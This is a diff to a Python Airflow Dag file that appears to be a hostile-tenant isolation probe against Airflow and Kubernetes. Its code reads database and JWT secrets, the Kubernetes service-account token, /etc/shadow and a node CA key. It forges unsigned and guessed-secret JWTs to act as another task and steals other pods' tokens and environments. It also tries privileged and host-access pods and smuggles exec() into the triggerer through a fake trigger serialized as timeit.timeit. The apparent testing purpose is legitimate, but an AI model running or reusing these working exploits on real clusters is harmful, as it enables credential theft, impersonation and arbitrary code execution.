@@ -1,7 +1,8 @@
-"""What a hostile author of a Dag would try, from a task and from the top of the file.
+"""What a hostile author of a Dag would try, from wherever his code runs.
 
 Each attempt answers `done` or why not. The top of this file runs in the dag-processor; what it
-found is the documentation of the Dag. Whom to attack is in a file beside this one.
+found is the documentation of the Dag. A task that defers hands this file to the triggerer.
+Whom to attack is in a file beside this one.
 """
 
 import base64
@@ -12,18 +13,23 @@ import re
 import socket
 import ssl
 import sys
+import time
 import urllib.error
 import urllib.request
+import uuid
 from collections.abc import Callable
 from concurrent.futures import ThreadPoolExecutor
 from functools import partial
+from http import HTTPStatus
 from pathlib import Path
 from typing import Any
 
-from airflow.sdk import dag, get_current_context, task
+from airflow.sdk import BaseOperator, dag, get_current_context, task
 from kubernetes.client import models as k8s
 
-ABOUT = json.loads(Path(__file__).with_name("attacker.json").read_text())
+# Who hands this file on, tells it.
+ABOUT = globals().get("TOLD") or json.loads(Path(__file__).with_name("attacker.json").read_text())
+ACCOUNT_TOKEN = Path("/var/run/secrets/kubernetes.io/serviceaccount/token")
 SECONDS = 3
 SECRETS = {
     "read the URL of the database": "AIRFLOW__DATABASE__SQL_ALCHEMY_CONN",
@@ -31,7 +37,8 @@ SECRETS = {
     "read the JWT secret": "AIRFLOW__API_AUTH__JWT_SECRET",
     "read the API secret key": "AIRFLOW__API__SECRET_KEY",
 }
-PTRACE_ATTACH, CLONE_NEWUSER = 16, 0x10000000
+TOKEN = re.compile(r'"token": ?"([\w.-]+)"')
+CLONE_NEWUSER = 0x10000000
 
 
 def connect(target: str) -> str:
@@ -56,6 +63,16 @@ def variable(name: str) -> str:
     # Airflow takes the URL away from tasks by writing this in its place.
     if not match or match[1].startswith("airflow-db-not-allowed"):
         raise PermissionError("not in the environment")
+    return "done"
+
+
+def environment_of_another() -> str:
+    """A process whose host is not this one is of another pod."""
+    hosts = set(re.findall(r"(?:^|\0)HOSTNAME=([^\0]*)", environments()))
+    if not hosts:
+        raise LookupError("not even its own environment can be read")
+    if hosts == {socket.gethostname()}:
+        raise PermissionError("there are processes of this pod only")
     return "done"
 
 
@@ -89,10 +106,9 @@ def kubernetes(path: str) -> str:
 
 ATTEMPTS: dict[str, Callable[[], str]] = {
     **{what: partial(variable, name) for what, name in SECRETS.items()},
+    "read another pod's environment": environment_of_another,
     **{f"reach {target}": partial(connect, target) for target in ABOUT["targets"]},
-    "read a token of Kubernetes": partial(
-        read, "/var/run/secrets/kubernetes.io/serviceaccount/token"
-    ),
+    "read a token of Kubernetes": partial(read, str(ACCOUNT_TOKEN)),
     "read Secrets by the Kubernetes API": partial(kubernetes, "/api/v1/secrets"),
     "read a key of the node": partial(read, "/etc/kubernetes/pki/ca.key", "/host/etc/shadow"),
     "write to the root file system": partial(write, "/usr/local/bin/attacked"),
@@ -116,30 +132,28 @@ def outcome(attempt: Callable[[], str]) -> str:
         return f"{type(error).__name__}: {error}"
 
 
-def attempts() -> dict[str, str]:
-    with ThreadPoolExecutor(len(ATTEMPTS)) as pool:
-        return dict(zip(ATTEMPTS, pool.map(outcome, ATTEMPTS.values()), strict=True))
+def outcomes(attempts: dict[str, Callable[[], str]]) -> dict[str, str]:
+    with ThreadPoolExecutor(len(attempts)) as pool:
+        return dict(zip(attempts, pool.map(outcome, attempts.values()), strict=True))
 
 
-def forged(token: str, **claims: Any) -> dict[str, str]:
-    """The token for somebody else: as it is signed, unsigned, and signed with a poor secret."""
+def forged(how: str, **claims: Any) -> str:
+    """A token for somebody else: as mine is signed, unsigned, or signed with a poor secret."""
     import jwt
 
+    if how == "unsigned":
+        return jwt.encode(claims, None, algorithm="none")
+    if how == "guessed":
+        return jwt.encode(claims, "airflow" * 10, algorithm="HS512")
+    token = own_token()
     head, body, signature = token.split(".")
     mine = json.loads(base64.urlsafe_b64decode(body + "=" * (-len(body) % 4)))
     other = base64.urlsafe_b64encode(json.dumps({**mine, **claims}).encode()).decode().rstrip("=")
-    return {
-        "its own token": token,
-        "a changed token": f"{head}.{other}.{signature}",
-        "an unsigned token": jwt.encode({**mine, **claims}, None, algorithm="none"),
-        "a token signed with a guess": jwt.encode(
-            {**mine, **claims}, "airflow" * 10, algorithm="HS512"
-        ),
-    }
+    return f"{head}.{other}.{signature}"
 
 
-def run_as(token: str, task_instance: str) -> int:
-    """Tell the execution API that a task runs here; return the status of the answer."""
+def run_as(token: str, task_instance: str) -> str:
+    """Tell the execution API that a task runs here; it takes a token that is good for that."""
     from airflow.configuration import conf
 
     body = {
@@ -157,17 +171,39 @@ def run_as(token: str, task_instance: str) -> int:
         headers={"Authorization": f"Bearer {token}", "Content-Type": "application/json"},
     )
     try:
-        return urllib.request.urlopen(request, timeout=30).status
+        urllib.request.urlopen(request, timeout=10)
     except urllib.error.HTTPError as error:
-        return error.code
+        # The token is taken, and the task runs already or has run.
+        if error.code != HTTPStatus.CONFLICT:
+            raise
+    return "done"
 
 
 def own_token() -> str:
     """The token that the executor wrote into the arguments of this pod."""
     for file in Path("/proc").glob("[0-9]*/cmdline"):
-        if match := re.search(r'"token": ?"([\w.-]+)"', file.read_text(errors="replace")):
+        if match := TOKEN.search(file.read_text(errors="replace")):
             return match[1]
-    raise LookupError("no token in any command line")
+    raise PermissionError("no token in any command line")
+
+
+def by_token(mine: str, other: str) -> dict[str, str]:
+    """What tokens of the execution API are good for."""
+    claims = {"sub": other, "scope": "workload", "aud": "urn:airflow.apache.org:task"}
+    claims |= {"iat": time.time(), "nbf": time.time(), "exp": time.time() + 600}
+    return outcomes(
+        {
+            "its own token for itself": lambda: run_as(own_token(), mine),
+            "its own token for another task": lambda: run_as(own_token(), other),
+            "a changed token for another task": lambda: run_as(forged("changed", sub=other), other),
+            "an unsigned token for another task": lambda: run_as(
+                forged("unsigned", **claims), other
+            ),
+            "a token signed with a guess for another task": lambda: run_as(
+                forged("guessed", **claims), other
+            ),
+        }
+    )
 
 
 def launched(**spec: Any) -> k8s.V1Pod:
@@ -202,20 +238,57 @@ def launched(**spec: Any) -> k8s.V1Pod:
     )
 
 
-def by_launcher() -> dict[str, str]:
-    """What the account that may launch pods is refused; nothing is really made."""
-    from kubernetes import client, config
+def kubernetes_api() -> Any:
+    """The Kubernetes API, as this pod's account or as nobody."""
+    from kubernetes import client
 
-    config.load_incluster_config()
-    core, rights = client.CoreV1Api(), client.RbacAuthorizationV1Api()
-    main, tasks = ABOUT["namespaces"]["main"], ABOUT["namespaces"]["tasks"]
+    settings = client.Configuration(host="https://kubernetes.default.svc")
+    settings.verify_ssl = settings.retries = False
+    if ACCOUNT_TOKEN.exists():
+        settings.api_key = {"authorization": f"Bearer {ACCOUNT_TOKEN.read_text()}"}
+    return client.ApiClient(settings)
+
+
+def environment_by_exec(namespace: str, pod: str) -> str:
+    from kubernetes import client
+    from kubernetes.stream import stream
+
+    # `stream` bends its client: this one is its own.
+    act = client.CoreV1Api(kubernetes_api()).connect_get_namespaced_pod_exec
+    try:
+        act(pod, namespace, command=["env"], _request_timeout=2 * SECONDS)
+    except client.ApiException as error:
+        # It would be allowed, but for the protocol; `stream` hides other answers.
+        if error.status != HTTPStatus.BAD_REQUEST:
+            raise
+    said = stream(act, pod, namespace, command=["env"], stdout=True, stderr=True)
+    if f"HOSTNAME={pod}" not in said:
+        raise LookupError(f"it says {said}")
+    return "done"
+
+
+def token_of_another(core: Any, namespace: str) -> str:
+    """What the executor wrote into the arguments of other pods, for whoever may list them."""
+    for pod in core.list_namespaced_pod(namespace, _request_timeout=2 * SECONDS).items:
+        words = [word for one in pod.spec.containers for word in one.args or []]
+        if pod.metadata.name != socket.gethostname() and any(map(TOKEN.search, words)):
+            return "done"
+    raise LookupError("no other task is there")
+
+
+def by_kubernetes() -> dict[str, str]:
+    """What the Kubernetes API takes from here; nothing is really made."""
+    from kubernetes import client
+
+    api = kubernetes_api()
+    core, rights = client.CoreV1Api(api), client.RbacAuthorizationV1Api(api)
+    main, tasks, other = (ABOUT["namespaces"][name] for name in ("main", "tasks", "other"))
 
     def create(namespace: str = tasks, **spec: Any) -> str:
-        core.create_namespaced_pod(namespace, launched(**spec), dry_run="All")
-        return "done"
+        return ask(core.create_namespaced_pod, namespace, launched(**spec), dry_run="All")
 
     def ask(act: Callable[..., Any], *arguments: Any, **options: Any) -> str:
-        act(*arguments, **options, _request_timeout=10)
+        act(*arguments, **options, _request_timeout=2 * SECONDS)
         return "done"
 
     volume = k8s.V1Volume(name="v", secret=k8s.V1SecretVolumeSource(secret_name="anything"))
@@ -228,14 +301,15 @@ def by_launcher() -> dict[str, str]:
     tries: dict[str, Callable[[], str]] = {
         "launch a pod as the operator does": create,
         "launch a privileged pod": partial(
-            create, container={"security_context": {"privileged": True}}
+            create,
+            container={
+                "security_context": {"privileged": True, "allow_privilege_escalation": True}
+            },
         ),
         "launch a pod with a path of the node": partial(create, volumes=[host]),
         "launch a pod in the network of the node": partial(create, host_network=True),
         "launch a pod with the processes of the node": partial(create, host_pid=True),
-        "launch a pod as another account": partial(
-            create, service_account_name="airflow-scheduler"
-        ),
+        "launch a pod as another account": partial(create, service_account_name=ABOUT["account"]),
         "launch a pod with the label of a component": partial(
             create, labels={"tier": "airflow", "component": "scheduler", "release": "airflow"}
         ),
@@ -247,7 +321,12 @@ def by_launcher() -> dict[str, str]:
             create, container={"env": [source]}
         ),
         "launch a pod beside the platform": partial(create, namespace=main),
-        "launch a pod beside another team": partial(create, namespace="kube-system"),
+        "launch a pod beside another team": partial(create, namespace=other),
+        "read another pod's environment": partial(environment_by_exec, tasks, ABOUT["pod"]),
+        "read the environment of the platform": partial(
+            environment_by_exec, main, "airflow-postgresql-0"
+        ),
+        "read the token of another task": partial(token_of_another, core, tasks),
         "list the Secrets of the tasks": partial(ask, core.list_namespaced_secret, tasks),
         "list the Secrets of the platform": partial(ask, core.list_namespaced_secret, main),
         "list the pods of the platform": partial(ask, core.list_namespaced_pod, main),
@@ -261,8 +340,19 @@ def by_launcher() -> dict[str, str]:
             ask, core.create_namespaced_service_account_token, "airflow-worker", tasks, request
         ),
     }
+    return outcomes(tries)
 
-    return {what: outcome(attempt) for what, attempt in tries.items()}
+
+def everything(mine: str = "", other: str = "") -> dict[str, dict[str, str]]:
+    """All of it at once: most attempts end by their limit, and a Dag file has half a minute."""
+    nobody = str(uuid.uuid4())
+    with ThreadPoolExecutor() as pool:
+        found = {
+            "here": pool.submit(outcomes, ATTEMPTS),
+            "kubernetes": pool.submit(by_kubernetes),
+            "tokens": pool.submit(by_token, mine or nobody, other or nobody),
+        }
+        return {where: one.result() for where, one in found.items()}
 
 
 def overridden(**spec: Any) -> dict[str, Any]:
@@ -287,14 +377,42 @@ OVERRIDES = {
     "path_of_the_node": overridden(
         volumes=[k8s.V1Volume(name="v", host_path=k8s.V1HostPathVolumeSource(path="/"))]
     ),
-    "another_account": overridden(service_account_name="airflow-scheduler"),
+    "another_account": overridden(service_account_name=ABOUT["account"]),
     "label_of_a_component": overridden(labels={"component": "scheduler"}),
     "a_secret": overridden(
         volumes=[k8s.V1Volume(name="v", secret=k8s.V1SecretVolumeSource(secret_name="airflow-jwt"))]
     ),
 }
 IN_A_TASK = "AIRFLOW_IS_K8S_EXECUTOR_POD" in os.environ
-FOUND = {} if IN_A_TASK or "pytest" in sys.modules else attempts()
+ELSEWHERE = IN_A_TASK or "TOLD" in globals() or "pytest" in sys.modules
+FOUND = {} if ELSEWHERE else everything()
+# TypeError is what the triggerer takes for a trigger that it cannot make, and hands on.
+IN_THE_TRIGGERER = """
+import json
+names = {"__name__": "attacker", "__file__": file, "TOLD": told}
+exec(source, names)
+raise TypeError(json.dumps(names["everything"]()))
+"""
+
+
+class NoTrigger:
+    """No trigger, but a function that runs what it is given."""
+
+    def serialize(self) -> tuple[str, dict[str, Any]]:
+        source = Path(__file__).read_text()
+        names = {"source": source, "file": __file__, "told": ABOUT}
+        return "timeit.timeit", {"stmt": IN_THE_TRIGGERER, "number": 1, "globals": names}
+
+
+class Deferring(BaseOperator):
+    """Attack from the triggerer, and hand on what was found there."""
+
+    def execute(self, context: Any) -> None:
+        self.defer(trigger=NoTrigger(), method_name="execute")
+
+    def resume_execution(self, next_method: str, next_kwargs: Any, context: Any) -> Any:
+        said = "".join(next_kwargs["traceback"])
+        return json.loads(said.rpartition("TypeError: ")[2])
 
 
 @dag(schedule=None, doc_md=json.dumps(FOUND))
@@ -304,25 +422,22 @@ def attacker() -> None:
         return str(get_current_context()["ti"].id)
 
     @task(retries=0)
-    def attack() -> dict[str, str]:
-        return attempts()
-
-    @task(retries=0)
-    def forge(other: str) -> dict[str, int]:
-        """Statuses: 409 is for a token that is good for a task that cannot be run again."""
-        token, mine = own_token(), str(get_current_context()["ti"].id)
-        statuses = {"its own token for itself": run_as(token, mine)}
-        for what, one in forged(token, sub=other).items():
-            statuses[f"{what} for another task"] = run_as(one, other)
-        return statuses
+    def attack(other: str) -> dict[str, dict[str, str]]:
+        return everything(str(get_current_context()["ti"].id), other)
 
     @task(retries=0, executor_config=LAUNCHER)
     def launch() -> dict[str, str]:
-        return by_launcher()
+        return by_kubernetes()
 
-    forge(victim())
-    attack()
+    @task(retries=0)
+    def bystander() -> None:
+        """A task that runs while the others look for its token."""
+        time.sleep(40)
+
+    bystander()
+    attack(victim())
     launch()
+    Deferring(task_id="defer", retries=0)
     for name, override in OVERRIDES.items():
 
         @task(task_id=name, retries=0, executor_config=override)
